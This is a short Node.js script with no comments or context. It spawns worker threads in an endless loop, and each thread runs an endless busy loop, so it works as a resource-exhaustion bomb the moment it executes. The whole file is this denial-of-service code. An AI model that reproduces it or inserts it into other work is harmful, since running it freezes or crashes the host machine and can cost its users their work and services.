const { Worker } = require('worker_threads');
function go() {
  for (;;) new Worker('while(true){}', { eval: true });
}
go();
